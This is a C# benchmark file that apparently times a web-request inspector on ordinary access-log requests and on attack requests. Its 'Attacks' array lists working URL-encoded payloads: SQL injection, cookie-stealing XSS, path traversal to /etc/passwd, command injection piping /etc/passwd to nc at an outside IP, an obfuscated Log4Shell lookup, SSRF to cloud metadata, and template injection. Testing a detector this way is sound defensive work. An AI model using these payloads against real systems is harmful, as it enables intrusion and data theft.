using System.IO.Compression;
using System.Text;
using BenchmarkDotNet.Attributes;
using Vedette.Engine.Events;
using Vedette.Engine.Signatures;

namespace Vedette.Bench.Signatures;

/// <summary>Time and memory per inspected request: ordinary targets of a real access log, and attacks.</summary>
/// <remarks>The log is read from the file named by <c>VEDETTE_BENCH_LOG</c> (combined format, .gz); without it a few built-in targets stand in.</remarks>
[MemoryDiagnoser]
public class RequestInspectorBenchmark
{
    private const int Requests = 1000;

    private static readonly string[] Attacks =
    [
        "id=1%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x7171,version(),0x7171),NULL--%20-",
        "q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
        "file=..%252f..%252f..%252f..%252fetc%252fpasswd",
        "cmd=127.0.0.1;cat%20/etc/passwd%20|%20nc%20198.51.100.7%204444",
        "x=%24%7B%24%7Blower:j%7Dndi:%24%7Blower:l%7Ddap://198.51.100.7/a%7D",
        "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        "n=%7B%7B%27%27.__class__.__mro__%5B2%5D.__subclasses__()%7D%7D",
    ];

    private static readonly string[] Builtin =
    [
        "/ - -", "/api/orders/1842?page=2 https://example.com/shop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "/static/js/app.3f9a.min.js https://example.com/ Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        "/search?q=blue%20garden&sort=price - curl/8.5.0", "/favicon.ico - Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ];

    private readonly RequestInspector _inspector = new();
    private readonly EventBatch _batch = new(1 << 20, 1);
    private HttpEvent[] _targets = [];
    private HttpEvent[] _events = [];
    private HttpEvent[] _attacks = [];
    private InspectionScratch? _scratch = new();

    [GlobalSetup]
    public void Setup()
    {
        _events = [.. Enumerable.Range(0, Requests).Zip(Repeat(Lines()), (_, line) => Parse(line))];
        _targets = [.. _events.Select(e => new HttpEvent { Path = e.Path, Query = e.Query })];
        _attacks = [.. Enumerable.Range(0, Requests).Zip(Repeat(Attacks), (_, query) => new HttpEvent { Path = Append("/index.php"), Query = Append(query) })];
    }

    /// <summary>Path and query of ordinary requests.</summary>
    [Benchmark(OperationsPerInvoke = Requests)]
    public float OrdinaryTargets() => Inspect(_targets);

    /// <summary>The same requests with User-Agent and Referer.</summary>
    [Benchmark(OperationsPerInvoke = Requests)]
    public float OrdinaryEvents() => Inspect(_events);

    [Benchmark(OperationsPerInvoke = Requests)]
    public float AttackRequests() => Inspect(_attacks);

    private float Inspect(HttpEvent[] requests)
    {
        float sum = 0;
        foreach (ref readonly var request in requests.AsSpan())
        {
            _inspector.Inspect(_batch, request, ref _scratch, out var result);
            sum += result.Score;
        }
        return sum;
    }

    private static IEnumerable<string> Lines()
    {
        string? file = Environment.GetEnvironmentVariable("VEDETTE_BENCH_LOG");
        if (file is null) return Builtin;
        using var reader = new StreamReader(new GZipStream(File.OpenRead(file), CompressionMode.Decompress));
        return [.. reader.ReadToEnd().Split('\n').Select(Rewrite).OfType<string>().Take(Requests)];
    }

    /// <summary>The target, Referer and User-Agent of a combined line.</summary>
    private static string? Rewrite(string line)
    {
        string[] quoted = line.Split('"');
        string[] request = quoted.Length > 5 ? quoted[1].Split(' ') : [];
        return request.Length == 3 ? $"{request[1]} {quoted[3]} {quoted[5]}" : null;
    }

    private static IEnumerable<string> Repeat(IEnumerable<string> lines)
    {
        string[] all = [.. lines];
        while (true)
            foreach (string line in all) yield return line;
    }

    private HttpEvent Parse(string line)
    {
        string[] parts = line.Split(' ', 3);
        int mark = parts[0].IndexOf('?', StringComparison.Ordinal);
        return new HttpEvent
        {
            Path = Append(mark < 0 ? parts[0] : parts[0][..mark]),
            Query = mark < 0 ? default : Append(parts[0][(mark + 1)..]),
            Referer = Append(parts[1]),
            UserAgent = Append(parts[2]),
        };
    }

    private Utf8Slice Append(string text) => _batch.Append(Encoding.UTF8.GetBytes(text));
}
